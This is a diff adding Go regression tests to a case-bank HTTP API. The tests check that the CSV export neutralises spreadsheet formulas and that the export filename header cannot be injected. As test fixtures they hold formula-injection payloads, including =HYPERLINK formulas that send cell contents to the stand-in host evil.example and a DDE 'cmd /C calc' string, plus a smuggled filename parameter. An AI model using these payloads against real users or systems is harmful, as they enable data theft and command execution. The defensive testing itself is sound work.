@@ -4,8 +4,11 @@ package httpapi_test
 // docs/security.md): each reproduces the probe that showed the problem.
 
 import (
+	"bytes"
 	"context"
+	"encoding/csv"
 	"fmt"
+	"mime"
 	"net/http"
 	"strings"
 	"testing"
@@ -143,4 +146,75 @@ func TestNoTranscriptForADeletedRecording(t *testing.T) {
 		t.Fatalf("delete = %d", res.Code)
 	}
 	e.expectRefusal(studentInGrp, http.MethodPut, rec+"/transcript", transcriptBody("edited", "texto"), http.StatusConflict, "recording_closed")
+}
+
+// The case-bank CSV export wrote formulas as they were (=HYPERLINK(...)
+// leaking the next cell to another site when a tutor opened the file); the
+// neutralised export must still import back to the same text.
+func TestCaseCSVExportIsNeutralisedAndStillImportsBack(t *testing.T) {
+	e := newEnv(t)
+	hostile := map[string]any{"degreeId": "derecho",
+		"area":       `=HYPERLINK("http://evil.example/?leak="&C2,"Area")`,
+		"title":      `=HYPERLINK("http://evil.example/?leak="&D2,"Ver caso")`,
+		"facts":      `+cmd|' /C calc'!A0`,
+		"questions":  []string{"@SUM(1+1)"},
+		"followUps":  []string{"-1+1", "=1+1"},
+		"keyPoints":  []string{"'=ya citado con apóstrofo"},
+		"legalBases": []map[string]string{{"norm": "Constitución", "article": "76"}},
+		"status":     "retired"}
+	if res := e.do(tutor, http.MethodPost, "/api/admin/cases", hostile); res.Code != http.StatusCreated {
+		t.Fatalf("create = %d %s", res.Code, res.Body)
+	}
+	export := func() []byte {
+		res := e.do(tutor, http.MethodGet, "/api/admin/cases/export?format=csv&degree=derecho", nil)
+		if res.Code != http.StatusOK {
+			t.Fatalf("export = %d", res.Code)
+		}
+		return res.Body.Bytes()
+	}
+	exported := export()
+	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(exported, []byte("\ufeff")))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("cell %q would run as a formula", cell)
+			}
+			found = found || strings.Contains(cell, "HYPERLINK")
+		}
+	}
+	if !found {
+		t.Fatal("the hostile case is not in the export")
+	}
+	// Round trip: the neutralised cells import back to the original text.
+	before := e.do(tutor, http.MethodGet, "/api/admin/cases/export?format=json&degree=derecho", nil).Body.String()
+	res := e.do(tutor, http.MethodPost, "/api/admin/cases/import", multipartFile(t, "file", "casos.csv", exported))
+	if res.Code != http.StatusOK || decode[map[string]int](t, res)["created"] != 0 {
+		t.Fatalf("re-import = %d %s", res.Code, res.Body)
+	}
+	if after := e.do(tutor, http.MethodGet, "/api/admin/cases/export?format=json&degree=derecho", nil).Body.String(); after != before {
+		t.Fatalf("the CSV round trip changed the bank")
+	}
+	if again := export(); !bytes.Equal(again, exported) {
+		t.Fatal("export → import → export is not exact")
+	}
+}
+
+// The degree query parameter was pasted into Content-Disposition, so
+// degree=x"; filename="evil.html added a second filename.
+func TestCaseExportFilenameCannotBeInjected(t *testing.T) {
+	e := newEnv(t)
+	e.expectRefusal(tutor, http.MethodGet, "/api/admin/cases/export?format=csv&degree=x%22%3B%20filename%3D%22evil.html", nil,
+		http.StatusNotFound, "degree_not_found")
+	for _, path := range []string{"/api/admin/cases/export?format=csv&degree=derecho", "/api/admin/cases/export?format=json"} {
+		res := e.do(tutor, http.MethodGet, path, nil)
+		cd := res.Header().Get("Content-Disposition")
+		disposition, params, err := mime.ParseMediaType(cd)
+		if res.Code != http.StatusOK || err != nil || disposition != "attachment" || len(params) != 1 {
+			t.Fatalf("%s: %d Content-Disposition = %q (%v %v)", path, res.Code, cd, params, err)
+		}
+	}
 }
